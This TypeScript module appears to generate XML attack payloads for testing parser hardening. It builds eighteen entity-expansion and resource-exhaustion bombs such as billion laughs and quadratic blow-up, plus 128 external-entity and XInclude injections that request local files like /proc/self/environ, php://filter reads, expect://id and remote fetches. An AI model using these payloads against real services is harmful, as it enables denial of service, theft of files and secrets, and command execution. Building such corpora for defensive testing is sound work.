/** Something an XML parser may choke on, and a text to be put between its start and its end. */
export type Attack = readonly [what: string, xml: string];

/** What wraps the attacked text, and the element it stands in. */
export interface Frame {
  readonly open: string;
  readonly close: string;
}

const doctype = (subset: string): string => `<?xml version="1.0"?><!DOCTYPE x [${subset}]>`;
const many = (count: number, piece: string | ((i: number) => string)): string =>
  Array.from({ length: count }, (_, i) => (typeof piece === 'string' ? piece : piece(i))).join('');

/** Laughs: each entity ten of the one before. */
function laughs(depth: number, mark: '' | '%'): string {
  const entity = (name: string, value: string): string => `<!ENTITY ${mark === '%' ? '% ' : ''}${name} "${value}">`;
  const call = mark === '%' ? '&#37;' : '&';
  return entity('e0', 'ha') + many(depth, (i) => entity(`e${i + 1}`, `${call}e${i};`.repeat(10)));
}

/** Eighteen ways to make little XML into much work. */
export function bombs({ open, close }: Frame): readonly Attack[] {
  const whole = (head: string, text: string): string => `${head}${open}${text}${close}`;
  return [
    ['a billion laughs', whole(doctype(laughs(9, '')), '&e9;')],
    ['laughs by parameter entities', whole(doctype(`${laughs(9, '%')}%e9;`), 'x')],
    ['quadratic blow-up', whole(doctype(`<!ENTITY a "${'a'.repeat(50_000)}">`), '&a;'.repeat(50_000))],
    ['an entity of itself', whole(doctype('<!ENTITY a "&a;">'), '&a;')],
    ['two entities of each other', whole(doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">'), '&a;')],
    ['100,000 entities', whole(doctype(many(100_000, (i) => `<!ENTITY e${i} "x">`)), '&e1;')],
    ['a million decimal references', whole('', '&#65;'.repeat(1_000_000))],
    ['a million hexadecimal references', whole('', '&#x41;'.repeat(1_000_000))],
    ['a reference of a million digits', whole('', `&#${'9'.repeat(1_000_000)};`)],
    ['a million ampersands', whole('', '&'.repeat(1_000_000))],
    ['depth of 100,000', whole('', `${'<a>'.repeat(100_000)}x${'</a>'.repeat(100_000)}`)],
    ['depth of 300,000 that does not end', whole('', '<a>'.repeat(300_000))],
    ['100,000 attributes', whole('', `<a ${many(100_000, (i) => `a${i}="x" `)}/>`)],
    ['an attribute of 5 MB', whole('', `<a b="${'x'.repeat(5_000_000)}"/>`)],
    ['a name of 5 MB', whole('', `<${'a'.repeat(5_000_000)}/>`)],
    ['a comment that does not end', whole('', `<!--${'-'.repeat(3_000_000)}`)],
    ['character data that do not end', whole('', `<![CDATA[${']'.repeat(3_000_000)}`)],
    ['100,000 name spaces', whole('', `${many(100_000, (i) => `<a xmlns:n${i}="u${i}">`)}x`)],
  ];
}

const SCHEMES = (file: string, web: string): readonly string[] => [
  ...[`file://${file}`, file, `file:${file}`, `FILE://localhost${file}`, `../../../../../../..${file}`, `file:///proc/self/environ`],
  ...[web, `${web}?%file;`, web.replace('http:', 'https:'), web.replace('http:', 'ftp:'), web.replace('http:', 'gopher:')],
  ...[
    `jar:${web}!/x`,
    `netdoc:${file}`,
    `php://filter/read=convert.base64-encode/resource=${file}`,
    `data:text/plain;base64,WA==`,
    `expect://id`,
  ],
];

/** A hundred and twenty-eight ways to ask for a file or an address: eight places of XML that may name one, by sixteen ways to name it. */
export function outsideEntities({ open, close }: Frame, file: string, web: string): readonly Attack[] {
  return SCHEMES(file, web).flatMap((to): Attack[] => [
    [`a general entity: ${to}`, `${doctype(`<!ENTITY x SYSTEM "${to}">`)}${open}&x;${close}`],
    [`a public entity: ${to}`, `${doctype(`<!ENTITY x PUBLIC "-//A//B" "${to}">`)}${open}&x;${close}`],
    [`a parameter entity: ${to}`, `${doctype(`<!ENTITY % x SYSTEM "${to}"> %x;`)}${open}x${close}`],
    [`a definition of types: ${to}`, `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${to}">${open}&x;${close}`],
    [`an entity of an entity: ${to}`, `${doctype(`<!ENTITY % f SYSTEM "${to}"><!ENTITY % d "<!ENTITY x '%f;'>">%d;`)}${open}&x;${close}`],
    [`an attribute: ${to}`, `${doctype(`<!ENTITY x SYSTEM "${to}">`)}${open}<a b="&x;">x</a>${close}`],
    [`an inclusion: ${to}`, `${open}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${to}"/>${close}`],
    [
      `a style sheet and a schema: ${to}`,
      `<?xml version="1.0"?><?xml-stylesheet href="${to}"?>${open}<a xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="u ${to}">x</a>${close}`,
    ],
  ]);
}
